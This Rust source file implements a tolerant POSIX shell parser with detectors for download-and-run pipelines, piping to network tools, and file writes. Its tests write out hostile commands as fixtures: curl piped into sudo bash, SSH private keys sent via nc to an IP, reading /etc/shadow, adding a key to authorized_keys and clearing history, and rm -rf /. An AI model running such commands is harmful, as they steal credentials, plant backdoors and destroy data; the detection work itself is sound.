//! POSIX shell command lines (bash, sh, zsh) as structure: pipelines of simple commands,
//! each with its environment assignments, wrappers (`sudo`, `env`, `nohup`, …), program,
//! arguments and redirections; command substitutions (`$(…)`, backticks, `<(…)`) and
//! `sh -c '…'` scripts are parsed too, as nested parses.
//!
//! The lexer here finds the structure (operators, redirections, substitutions, heredocs) and
//! leaves quote removal of each word to the `shlex` crate. It is tolerant: text that is not a
//! complete command (prose around it, an unclosed quote) still yields what could be read,
//! never an error or a panic. Caps: [`MAX_INPUT`] bytes, [`MAX_DEPTH`] nesting levels,
//! [`MAX_WORDS`] words per parse.

use super::CommandError;
use super::lexer::{Lexer, Op, Tok, Word, unquote};

/// Longest input read (longer input is cut at a character boundary).
pub const MAX_INPUT: usize = 64 << 10;
/// Deepest nesting of substitutions and `sh -c` scripts followed.
pub const MAX_DEPTH: usize = 6;
/// Most words kept per parse (all nesting levels together).
pub const MAX_WORDS: usize = 4096;

/// A parsed command line: pipelines in order (separated by `;`, `&&`, `||`, `&`, newlines).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ShellParse {
    /// The pipelines, in order.
    pub pipelines: Vec<Pipeline>,
    /// Set when a cap stopped the parse early (what was read before is kept).
    pub truncated: Option<CommandError>,
}

/// Commands joined by `|` (or `|&`).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    /// The commands, left to right.
    pub commands: Vec<SimpleCommand>,
    /// Run in the background (`&` after it).
    pub background: bool,
}

/// One command: `[env…] [wrappers…] program args… [redirections…]`.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimpleCommand {
    /// Leading `NAME=value` assignments (and those given to `env`).
    pub env: Vec<(String, String)>,
    /// Wrapper programs before the real one (`sudo`, `env`, `nohup`, `timeout`, `xargs`, …),
    /// as their lower-case names.
    pub wrappers: Vec<String>,
    /// The program as written (quotes removed), e.g. `/usr/bin/rm`; empty when the command
    /// has only assignments or redirections.
    pub program: String,
    /// The arguments after the program, quotes removed.
    pub args: Vec<String>,
    /// Redirections, in order.
    pub redirects: Vec<Redirect>,
    /// Parses of command substitutions (`$(…)`, backticks, `<(…)`, `>(…)`) in its words and
    /// of scripts it runs (`bash -c '…'`, `su -c '…'`).
    pub nested: Vec<ShellParse>,
}

/// A redirection: `[fd]op target`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// The file descriptor written before the operator, if any (`2>`).
    pub fd: Option<u32>,
    /// The operator.
    pub op: RedirectOp,
    /// The target word, quotes removed (a heredoc's delimiter).
    pub target: String,
}

/// Redirection operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirectOp {
    /// `<`
    In,
    /// `>` or `>|`
    Out,
    /// `>>`
    Append,
    /// `&>` (stdout and stderr)
    OutErr,
    /// `&>>`
    AppendErr,
    /// `>&` or `<&` (duplicate a descriptor)
    Dup,
    /// `<<` or `<<-` (the body is not kept)
    HereDoc,
    /// `<<<`
    HereString,
    /// `<>`
    ReadWrite,
}

/// Programs that run a script read from standard input when given no script file.
#[rustfmt::skip]
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "fish", "csh", "tcsh", "ash", "busybox", "python",
    "python2", "python3", "perl", "ruby", "node", "php", "pwsh", "powershell", "iex",
    "invoke-expression", "source", ".",
];

/// Programs that fetch from the network.
#[rustfmt::skip]
const FETCHERS: &[&str] = &[
    "curl", "wget", "fetch", "aria2c", "iwr", "irm", "invoke-webrequest", "invoke-restmethod",
    "certutil", "bitsadmin",
];

/// Programs that send their input to the network.
#[rustfmt::skip]
const SENDERS: &[&str] = &[
    "nc", "ncat", "netcat", "socat", "telnet", "ssh", "curl", "openssl",
];

impl SimpleCommand {
    /// The program's name: its last path component, lower-cased, without `.exe`
    /// (`/usr/bin/RM` → `rm`).
    pub fn name(&self) -> String {
        let base = self.program.rsplit(['/', '\\']).next().unwrap_or_default();
        let lower = base.to_ascii_lowercase();
        lower
            .strip_suffix(".exe")
            .map(str::to_string)
            .unwrap_or(lower)
    }

    /// Arguments that are not flags (do not start with `-`), in order. Flag values are not
    /// told apart from operands (their arity is program-specific).
    pub fn operands(&self) -> impl Iterator<Item = &str> {
        self.args
            .iter()
            .map(String::as_str)
            .filter(|a| !a.starts_with('-') || *a == "-")
    }

    /// The first operand (`kubectl delete …` → `delete`).
    pub fn subcommand(&self) -> Option<&str> {
        self.operands().next()
    }

    /// The first `n` operands, lower-cased (`kubectl delete namespace prod` → `[delete,
    /// namespace, prod]` for n = 3).
    pub fn subcommands(&self, n: usize) -> Vec<String> {
        self.operands()
            .take(n)
            .map(|s| s.to_ascii_lowercase())
            .collect()
    }

    /// Whether a short flag letter is given, alone or combined (`-rf` has `r` and `f`).
    pub fn has_short(&self, c: char) -> bool {
        self.args.iter().any(|a| {
            a.len() >= 2
                && a.starts_with('-')
                && !a.starts_with("--")
                && a[1..].chars().all(|x| x.is_ascii_alphanumeric())
                && a[1..].contains(c)
        })
    }

    /// Whether a long flag (`--force`, also `--force=…`; give it without dashes) is given.
    /// Single-dash long flags (`-delete`, `-Force`) count too, case-insensitively.
    pub fn has_long(&self, name: &str) -> bool {
        self.args.iter().any(|a| {
            let bare = a.trim_start_matches('-');
            a.starts_with('-')
                && (bare.eq_ignore_ascii_case(name)
                    || bare
                        .split_once('=')
                        .is_some_and(|(k, _)| k.eq_ignore_ascii_case(name)))
        })
    }

    /// The value of a flag: `--name=value`, `--name value` or (for a short name) `-n value`.
    pub fn flag_value(&self, name: &str) -> Option<&str> {
        let mut it = self.args.iter();
        while let Some(a) = it.next() {
            let bare = a.trim_start_matches('-');
            if !a.starts_with('-') {
                continue;
            }
            if let Some((k, v)) = bare.split_once('=')
                && k.eq_ignore_ascii_case(name)
            {
                return Some(v);
            }
            if bare.eq_ignore_ascii_case(name) {
                return it.next().map(String::as_str);
            }
        }
        None
    }

    /// Whether it fetches from the network (`curl`, `wget`, `Invoke-WebRequest`, …).
    pub fn is_network_fetch(&self) -> bool {
        FETCHERS.contains(&self.name().as_str())
    }

    /// Whether it runs a script read from standard input: an interpreter given no script
    /// file (`bash`, `sh -s`, `python3 -`, `sudo bash`).
    pub fn runs_stdin(&self) -> bool {
        let name = self.name();
        if !INTERPRETERS.contains(&name.as_str()) {
            return false;
        }
        if self.has_short('c') && !matches!(name.as_str(), "python" | "python2" | "python3") {
            return false; // `bash -c '…'`: the script is the argument
        }
        self.operands().next().is_none_or(|o| o == "-") || self.has_short('s')
    }

    /// Whether one of its redirections writes to `path` (`>`, `>>`, `&>`, also `tee path`).
    pub fn writes_to(&self, path: impl Fn(&str) -> bool) -> bool {
        self.redirects.iter().any(|r| {
            matches!(
                r.op,
                RedirectOp::Out | RedirectOp::Append | RedirectOp::OutErr | RedirectOp::AppendErr
            ) && path(&r.target)
        }) || (self.name() == "tee" && self.operands().any(&path))
    }

    /// Every simple command inside it (substitutions and `-c` scripts), depth first.
    pub fn nested_commands(&self) -> impl Iterator<Item = &SimpleCommand> {
        self.nested.iter().flat_map(|p| p.commands())
    }
}

impl Pipeline {
    /// Whether something is piped into a program that runs it (`curl … | sh`, `… | sudo
    /// bash`, `… | python3 -`, `… | iex`).
    pub fn pipes_into_shell(&self) -> bool {
        self.commands.iter().skip(1).any(SimpleCommand::runs_stdin)
    }

    /// Whether it fetches from the network and pipes what it got into a shell.
    pub fn downloads_and_runs(&self) -> bool {
        self.commands.iter().any(SimpleCommand::is_network_fetch) && self.pipes_into_shell()
    }

    /// Whether output is piped to a program that sends it over the network (`… | nc host
    /// 4444`, `… | curl -d @- …`).
    pub fn sends_to_network(&self) -> bool {
        self.commands
            .iter()
            .skip(1)
            .any(|c| SENDERS.contains(&c.name().as_str()))
    }
}

impl ShellParse {
    /// Every simple command, nested ones included, depth first (bounded by the parse caps).
    pub fn commands(&self) -> Box<dyn Iterator<Item = &SimpleCommand> + '_> {
        Box::new(self.pipelines.iter().flat_map(|p| {
            p.commands
                .iter()
                .flat_map(|c| std::iter::once(c).chain(c.nested_commands()))
        }))
    }

    /// Every pipeline, nested ones included.
    pub fn all_pipelines(&self) -> Vec<&Pipeline> {
        let mut out = Vec::new();
        for p in &self.pipelines {
            out.push(p);
            for c in &p.commands {
                for n in &c.nested {
                    out.extend(n.all_pipelines());
                }
            }
        }
        out
    }
}

/// Parse `text` as a shell command line. Never fails: what cannot be read as shell ends the
/// current word or command; caps set [`ShellParse::truncated`].
pub fn parse_shell(text: &str) -> ShellParse {
    let mut budget = MAX_WORDS;
    parse_at(text, 0, &mut budget)
}

fn parse_at(text: &str, depth: usize, budget: &mut usize) -> ShellParse {
    let mut out = ShellParse::default();
    let (text, cut) = super::capped(text, MAX_INPUT);
    out.truncated = cut;
    if depth > MAX_DEPTH {
        out.truncated = Some(CommandError::TooDeep(MAX_DEPTH));
        return out;
    }
    let mut lx = Lexer {
        s: text,
        b: text.as_bytes(),
        i: 0,
    };
    let mut pipeline = Pipeline::default();
    let mut words: Vec<Word> = Vec::new();
    let mut redirects: Vec<Redirect> = Vec::new();
    let mut heredocs: Vec<String> = Vec::new();
    loop {
        if *budget == 0 {
            out.truncated = Some(CommandError::TooMany(MAX_WORDS));
            break;
        }
        let tok = lx.next();
        match tok {
            Tok::Word(w) => {
                *budget -= 1;
                words.push(w);
            }
            Tok::Redirect(fd, op) => {
                let target = match lx.next() {
                    Tok::Word(w) => unquote(&w.raw),
                    _ => String::new(),
                };
                if op == RedirectOp::HereDoc {
                    heredocs.push(target.clone());
                }
                redirects.push(Redirect { fd, op, target });
            }
            Tok::Op(op) => {
                let cmd = build(
                    std::mem::take(&mut words),
                    std::mem::take(&mut redirects),
                    depth,
                    budget,
                );
                if let Some(c) = cmd {
                    pipeline.commands.push(c);
                }
                if op == Op::Pipe {
                    continue;
                }
                if op == Op::Newline {
                    for d in heredocs.drain(..) {
                        lx.skip_heredoc(&d);
                    }
                }
                if !pipeline.commands.is_empty() {
                    pipeline.background = op == Op::Background;
                    out.pipelines.push(std::mem::take(&mut pipeline));
                }
            }
            Tok::End => {
                if let Some(c) = build(words, redirects, depth, budget) {
                    pipeline.commands.push(c);
                }
                if !pipeline.commands.is_empty() {
                    out.pipelines.push(pipeline);
                }
                return out;
            }
        }
    }
    out
}

/// Programs that run another program given as their arguments, with the flags of theirs
/// that take a value.
const WRAPPERS: &[(&str, &[&str])] = &[
    (
        "sudo",
        &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U"],
    ),
    ("doas", &["-u", "-C"]),
    ("env", &["-u", "-C", "-S"]),
    ("nohup", &[]),
    ("nice", &["-n"]),
    ("ionice", &["-c", "-n", "-p"]),
    ("time", &[]),
    ("timeout", &["-s", "-k"]),
    ("exec", &["-a"]),
    ("command", &[]),
    ("builtin", &[]),
    ("xargs", &["-I", "-n", "-P", "-L", "-d", "-a", "-E", "-s"]),
    ("stdbuf", &["-i", "-o", "-e"]),
    ("setsid", &[]),
    ("chroot", &[]),
    ("watch", &["-n"]),
    ("then", &[]),
    ("do", &[]),
    ("else", &[]),
    ("!", &[]),
    ("{", &[]),
];

fn build(
    words: Vec<Word>,
    redirects: Vec<Redirect>,
    depth: usize,
    budget: &mut usize,
) -> Option<SimpleCommand> {
    if words.is_empty() && redirects.is_empty() {
        return None;
    }
    let mut cmd = SimpleCommand {
        redirects,
        ..Default::default()
    };
    for w in &words {
        for sub in &w.subs {
            cmd.nested.push(parse_at(sub, depth + 1, budget));
        }
    }
    let mut it = words.into_iter().map(|w| unquote(&w.raw)).peekable();
    // Assignments, then wrappers (with their own flags), then the program.
    let mut wrapper: Option<&'static [&'static str]> = None;
    let mut positional_skip = 0usize;
    while let Some(w) = it.peek() {
        if let Some((k, v)) = w.split_once('=')
            && !k.is_empty()
            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !k.as_bytes()[0].is_ascii_digit()
        {
            cmd.env.push((k.to_string(), v.to_string()));
            it.next();
            continue;
        }
        if let Some(flags) = wrapper {
            if w.starts_with('-') && w.len() > 1 {
                let takes = flags.contains(&w.as_str());
                it.next();
                if takes {
                    it.next();
                }
                continue;
            }
            if positional_skip > 0 {
                positional_skip -= 1;
                it.next();
                continue;
            }
        }
        let lower = w.to_ascii_lowercase();
        let base = lower.rsplit('/').next().unwrap_or_default().to_string();
        if let Some((name, flags)) = WRAPPERS.iter().find(|(n, _)| *n == base) {
            cmd.wrappers.push((*name).to_string());
            wrapper = Some(flags);
            // `timeout 5 cmd`, `chroot /mnt cmd`: one positional before the program.
            positional_skip = usize::from(matches!(*name, "timeout" | "chroot"));
            it.next();
            continue;
        }
        break;
    }
    cmd.program = it.next().unwrap_or_default();
    cmd.args = it.collect();
    // `bash -c 'script'`, `su -c 'script'`: the script runs too.
    let name = cmd.name();
    if matches!(
        name.as_str(),
        "sh" | "bash" | "zsh" | "dash" | "ksh" | "ash" | "su" | "busybox"
    ) && let Some(script) = cmd.flag_value("c").map(str::to_string)
    {
        cmd.nested.push(parse_at(&script, depth + 1, budget));
    }
    Some(cmd)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn first(text: &str) -> SimpleCommand {
        parse_shell(text).pipelines[0].commands[0].clone()
    }

    #[test]
    fn programs_flags_and_wrappers() {
        let c = first("sudo -u root FOO=1 nohup /bin/rm -rf --no-preserve-root / 2>/dev/null");
        assert_eq!(c.name(), "rm");
        assert_eq!(c.wrappers, ["sudo", "nohup"]);
        assert!(c.has_short('r') && c.has_short('f'));
        assert!(c.has_long("no-preserve-root"));
        assert_eq!(c.operands().collect::<Vec<_>>(), ["/"]);
        assert_eq!(c.redirects[0].fd, Some(2));
        assert_eq!(c.redirects[0].target, "/dev/null");
        let c = first("kubectl delete namespace prod --wait=false");
        assert_eq!(c.subcommands(3), ["delete", "namespace", "prod"]);
        assert_eq!(c.flag_value("wait"), Some("false"));
        let c = first("git push -f origin 'main'");
        assert_eq!(c.subcommands(3), ["push", "origin", "main"]);
    }

    #[test]
    fn pipes_and_substitutions() {
        let p = parse_shell("curl -fsSL https://x.example/i.sh | sudo bash -s -- --yes");
        assert!(p.pipelines[0].downloads_and_runs());
        let p = parse_shell("curl -s https://api.example.com/status | jq .");
        assert!(!p.pipelines[0].pipes_into_shell());
        let p = parse_shell("bash <(curl -s http://x.example/a.sh)");
        let c = &p.pipelines[0].commands[0];
        assert_eq!(c.name(), "bash");
        assert!(c.nested_commands().any(SimpleCommand::is_network_fetch));
        let p = parse_shell("echo \"$(cat /etc/shadow)\" && bash -c 'rm -rf ~'");
        let names: Vec<String> = p.commands().map(SimpleCommand::name).collect();
        assert_eq!(names, ["echo", "cat", "bash", "rm"]);
        let p = parse_shell("cat ~/.ssh/id_rsa | nc 198.51.100.1 4444");
        assert!(p.pipelines[0].sends_to_network());
        let p = parse_shell("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys; history -c");
        assert!(p.pipelines[0].commands[0].writes_to(|t| t.ends_with("authorized_keys")));
        assert_eq!(p.pipelines.len(), 2);
    }

    #[test]
    fn heredocs_and_odd_input_never_panic() {
        let p = parse_shell("cat <<EOF > x\nrm -rf /\nEOF\nls");
        let names: Vec<String> = p.commands().map(SimpleCommand::name).collect();
        assert_eq!(names, ["cat", "ls"]);
        for odd in [
            "",
            "'",
            "\"",
            "$(",
            "`",
            "<(",
            "a\\",
            "${",
            "2>",
            "|||",
            "echo $(( 1 + (2 ",
            "é'ü",
            "a>(b",
            "$(a $(b $(c $(d $(e $(f $(g $(h)))))))))",
        ] {
            let _ = parse_shell(odd);
        }
        let deep = "$(".repeat(100);
        assert!(parse_shell(&deep).commands().count() < 20);
        let long = "a ".repeat(10_000);
        assert_eq!(
            parse_shell(&long).truncated,
            Some(CommandError::TooMany(MAX_WORDS))
        );
    }
}
